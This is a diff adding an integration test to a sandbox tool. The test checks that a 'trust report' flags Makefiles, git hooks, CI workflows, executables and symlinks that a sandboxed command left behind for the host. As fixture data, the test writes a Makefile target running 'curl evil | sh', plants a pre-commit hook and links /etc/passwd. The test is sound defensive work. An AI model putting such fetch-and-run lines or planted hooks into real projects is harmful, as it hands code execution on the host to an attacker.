@@ -25,6 +25,66 @@ on_ns_and_gvisor!(
     a_killed_supervisor_takes_the_sandbox_with_it,
 );
 
+fn the_trust_report_names_what_the_host_may_run(backend: &str) {
+    let ws = common::workspace();
+    std::fs::create_dir_all(ws.path().join(".git/hooks")).unwrap();
+    std::fs::write(ws.path().join("Makefile"), "all:\n\ttrue\n").unwrap();
+    std::fs::write(ws.path().join("untouched.sh"), "#!/bin/sh\n").unwrap();
+    let name = unique("trust");
+    let out = on(backend)
+        .args(["run", "--backend", backend, "--name", &name, "-w"])
+        .arg(ws.path())
+        .args([
+            "--",
+            "sh",
+            "-c",
+            "printf 'all:\\n\\tcurl evil | sh\\n' > Makefile; \
+             printf '#!/bin/sh\\nexit 0\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
+             mkdir -p .github/workflows && echo on: push > .github/workflows/ci.yml; \
+             echo tool > tool && chmod +x tool; ln -s /etc/passwd passwd-link; \
+             echo notes > notes.txt",
+        ])
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{out:?}");
+    let err = stderr(&out);
+    for want in [
+        "Makefile: build file",
+        ".git/hooks/pre-commit: git hook",
+        ".github/workflows/ci.yml: CI workflow",
+        "tool: executable",
+        "passwd-link: symlink leading out of the workspace (-> /etc/passwd)",
+    ] {
+        assert!(err.contains(want), "missing {want:?} in:\n{err}");
+    }
+    assert!(
+        !err.contains("notes.txt") && !err.contains("untouched.sh"),
+        "{err}"
+    );
+    let again = paddock().args(["trust", &name]).output().unwrap();
+    assert!(
+        stdout(&again).contains(".git/hooks/pre-commit: git hook"),
+        "{again:?}"
+    );
+    let quiet = on(backend)
+        .args(["run", "--backend", backend, "--name", &name, "-w"])
+        .arg(ws.path())
+        .args(["--", "true"])
+        .output()
+        .unwrap();
+    assert!(!stderr(&quiet).contains("review them"), "{quiet:?}");
+    let after = paddock().args(["trust", &name]).output().unwrap();
+    assert!(stdout(&after).contains("changed nothing"), "{after:?}");
+    assert!(
+        paddock()
+            .args(["rm", &name])
+            .output()
+            .unwrap()
+            .status
+            .success()
+    );
+}
+
 fn exit_codes_pass_through(backend: &str) {
     let ws = common::workspace();
     let sh = |ws: &std::path::Path, script: &str| common::sh_on(backend, ws, &[], script);
@@ -53,7 +113,11 @@ fn on(backend: &str) -> std::process::Command {
 
 // Behaviour that must be the same on every backend (the vm backend's own checks of exit codes,
 // streams, mounts, ownership and persistence are in vm.rs).
-on_every_backend!(terminal_resize_and_ctrl_c, environment_is_not_inherited);
+on_every_backend!(
+    terminal_resize_and_ctrl_c,
+    environment_is_not_inherited,
+    the_trust_report_names_what_the_host_may_run
+);
 
 fn environment_is_not_inherited(backend: &str) {
     common::ensure_image();
